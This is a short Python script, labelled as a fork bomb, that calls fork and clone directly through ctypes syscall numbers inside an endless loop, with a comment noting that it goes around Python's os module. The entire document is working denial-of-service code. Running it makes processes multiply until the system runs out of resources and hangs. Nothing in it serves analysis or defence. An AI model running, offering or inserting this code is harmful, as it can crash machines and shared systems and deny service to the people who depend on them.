# A fork bomb through raw system calls (ctypes), past Python's os module:
# clone(SIGCHLD) and fork, as syscall numbers.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SYS_fork, SYS_clone, SIGCHLD = 57, 56, 17
while True:
    libc.syscall(SYS_fork)
    libc.syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0)
